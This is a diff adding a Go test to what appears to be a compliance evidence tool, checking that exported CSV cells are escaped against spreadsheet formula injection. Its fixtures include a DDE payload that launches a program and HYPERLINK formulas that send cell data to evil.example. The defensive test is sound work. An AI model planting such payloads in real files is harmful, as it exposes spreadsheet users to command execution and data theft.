@@ -1,0 +1,64 @@
+package evidence
+
+import (
+	"context"
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/soc2-operator/soc2-operator/internal/journal"
+)
+
+// A namespace admin writes a ControlException's reason, ticket and owner, and the strings in the
+// findings' messages. An auditor opens the pack's CSVs in a spreadsheet, which runs a cell that
+// starts with =, +, -, @, a tab or a carriage return as a formula (OWASP "CSV Injection"): every
+// such cell must come out with a leading single quote, so it is shown as the text it is, and
+// every other cell unchanged.
+func TestTenantTextInThePacksCSVsIsNotAFormula(t *testing.T) {
+	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	ex := journal.Exception{Name: "waiver", RequestedBy: "@SUM(1+1)*cmd|' /C calc'!A0", ApprovedBy: "ciso@example.com",
+		Owner: "+HYPERLINK(\"https://evil.example/?\"&A1,\"owner\")", Reason: "=HYPERLINK(\"https://evil.example\",\"see ticket\")",
+		Ticket: "-2+3", Checks: []string{"wl-privileged"}, Created: t0, Expires: t0.AddDate(0, 1, 0)}
+	f := journal.Finding{Key: "k", Check: "wl-privileged", Kind: "Deployment", Name: "api", Message: "\t=1+1", FirstSeen: t0.Add(time.Hour)}
+	recs := []journal.Record{
+		{Type: journal.ExceptionRequested, Time: t0, Namespace: "team-a", Exception: &ex},
+		{Type: journal.ExceptionApproved, Time: t0.Add(time.Minute), Namespace: "team-a", Exception: &ex},
+		{Type: journal.FindingOpened, Time: t0.Add(time.Hour), Profile: "p", Namespace: "team-a", Finding: &f},
+	}
+	store := journalOf(t, append(recs, heartbeats(t0, t0.Add(3*time.Hour))...)...)
+	out := t.TempDir()
+	if _, err := Build(context.Background(), store, Options{From: t0, To: t0.Add(3 * time.Hour), Clusters: []string{"c"}, Dir: out}); err != nil {
+		t.Fatal(err)
+	}
+	files, _ := filepath.Glob(filepath.Join(out, "*.csv"))
+	for _, path := range files {
+		fh, err := os.Open(path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(fh).ReadAll()
+		fh.Close()
+		if err != nil {
+			t.Fatalf("%s: %v", path, err)
+		}
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would run as a formula in a spreadsheet", filepath.Base(path), cell)
+				}
+			}
+		}
+	}
+	rows := readCSV(t, filepath.Join(out, "exceptions.csv"))
+	if len(rows) != 1 || rows[0]["reason"] != "'"+ex.Reason || rows[0]["ticket"] != "'"+ex.Ticket || rows[0]["owner"] != "'"+ex.Owner ||
+		rows[0]["requested_by"] != "'"+ex.RequestedBy || rows[0]["approved_by"] != ex.ApprovedBy || rows[0]["name"] != "waiver" {
+		t.Errorf("exceptions.csv: %v\nwant the tenant's text after a single quote, and ordinary text unchanged", rows)
+	}
+	devs := readCSV(t, filepath.Join(out, "deviations.csv"))
+	if len(devs) != 1 || devs[0]["message"] != "'"+f.Message || devs[0]["duration_hours"] != "2.00" {
+		t.Errorf("deviations.csv: %v\nwant the message after a single quote, and numbers unchanged", devs)
+	}
+}
